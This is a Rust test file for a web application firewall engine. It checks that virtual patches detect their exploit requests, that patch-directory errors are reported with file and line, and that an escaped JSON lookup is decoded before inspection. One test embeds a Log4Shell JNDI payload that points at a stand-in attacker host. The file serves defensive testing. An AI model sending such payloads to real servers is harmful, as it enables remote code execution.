//! Every built-in virtual patch against its own test requests, through the whole engine
//! (normalization included): each `act` request raises that patch's `cve` signal and is
//! blocked by the pack; each `pass` request does not raise it.
use http::{HeaderValue, Method};
use palisade_detect::Registry;
use palisade_engine::{Engine, EngineShared};
use palisade_types::RequestView;
use std::path::Path;
use std::time::Instant;

fn engine(extra: &str) -> Result<Engine, palisade_engine::EngineError> {
    let yaml = format!("upstreams: {{ a: {{ servers: [\"127.0.0.1:1\"] }} }}\n{extra}");
    let cfg = palisade_config::from_str(&yaml, Path::new("t.yaml"), Path::new(".")).unwrap();
    Engine::new(&cfg, &Registry::builtin(), EngineShared::local())
}

#[test]
fn every_builtin_patch_matches_its_exploits_and_not_its_near_misses() {
    let e = engine("").unwrap();
    assert!(
        e.patches().len() >= 20,
        "only {} built-in patches",
        e.patches().len()
    );
    let failures = e.patch_test_failures();
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn patch_directory_adds_patches_and_reports_mistakes_with_file_and_line() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("acme.yaml"),
        "patches:
  - id: CVE-2026-0001
    title: ACME debug console
    severity: high
    methods: [POST]
    all:
      - { places: [path], transforms: [lowercase], contains: [/acme/console] }
      - { places: ['header:x-acme-debug'], exists: true }
    tests:
      act: [{ method: POST, path: /acme/console, headers: { x-acme-debug: '1' } }]
",
    )
    .unwrap();
    let extra = format!("patches: {{ dir: {} }}", dir.path().display());
    let e = engine(&extra).unwrap();
    let mut r = RequestView::new(Method::POST, "/ACME/Console", "192.0.2.7".parse().unwrap());
    r.headers
        .insert("x-acme-debug", HeaderValue::from_static("1"));
    let v = e.inspect(&r, Instant::now());
    assert!(
        v.signals.iter().any(|s| s.place.name == "CVE-2026-0001"),
        "{:?}",
        v.signals
    );
    // The same path without the header, or with GET, is not the exploit.
    r.headers.remove("x-acme-debug");
    let v = e.inspect(&r, Instant::now());
    assert!(v.signals.iter().all(|s| s.place.name != "CVE-2026-0001"));

    // A duplicate of a built-in id and an unknown transform: both reported, nothing loaded.
    std::fs::write(
        dir.path().join("bad.yaml"),
        "patches:
  - id: CVE-2021-44228
    title: again
    severity: low
    all: [{ places: [path], transforms: [rot13], contains: [x] }]
    tests: { act: [{ path: /x }] }
",
    )
    .unwrap();
    let err = engine(&extra)
        .err()
        .expect("a broken patch directory must fail");
    let text = err.to_string();
    assert!(text.contains("bad.yaml:5:"), "{text}");
    assert!(text.contains("unknown transform \"rot13\""), "{text}");
}

#[test]
fn a_lookup_hidden_in_a_json_escape_is_judged_on_its_decoded_value() {
    // The Log4Shell patch reads the raw query, body and headers; inside a JSON string the
    // lookup is `\u0024{…}`, which only the decoded value shows, and the java detector reads
    // every decoded value.
    let e = engine("").unwrap();
    let mut r = RequestView::new(Method::POST, "/api/users", "192.0.2.7".parse().unwrap());
    r.headers.insert(
        http::header::CONTENT_TYPE,
        HeaderValue::from_static("application/json"),
    );
    r.body = r#"{"name":"\u0024{jndi:ldap://evil.example/a}"}"#.into();
    let v = e.inspect(&r, Instant::now());
    assert!(
        v.signals
            .iter()
            .any(|s| s.category == palisade_types::Category::JavaInjection
                && s.confidence >= 0.9
                && s.place.name.contains("name")),
        "{:?}",
        v.signals
    );
    assert!(v.signals.iter().all(|s| s.place.name != "CVE-2021-44228"));
}
